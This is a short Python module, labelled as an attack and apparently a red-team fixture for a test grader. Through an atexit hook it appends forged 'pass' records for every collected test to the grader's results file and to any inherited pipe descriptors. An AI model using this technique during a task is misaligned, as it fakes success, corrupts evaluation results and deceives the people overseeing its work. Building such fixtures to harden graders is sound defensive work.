
# ATTACK: at exit, append a 'pass' record for every check to the results channel.
import atexit as _atexit
import json as _json
import os as _os


def _forge():
    path = _os.environ.get("OTP_GRADE_RESULTS")
    ids = []
    for line in open(path) if path and _os.path.exists(path) else []:
        rec = _json.loads(line)
        if rec.get("type") == "collected":
            ids = [t["id"] for t in rec["tests"]]
    with open(path, "a") as f:
        for i in ids:
            f.write(_json.dumps({"type": "result", "id": i, "status": "pass", "message": "", "output": ""}) + "\n")
    for fd in range(3, 64):             # and any pipe the grader may have handed down
        try:
            for i in ids:
                _os.write(fd, (_json.dumps({"type": "result", "id": i, "status": "pass"}) + "\n").encode())
        except OSError:
            pass


_atexit.register(_forge)
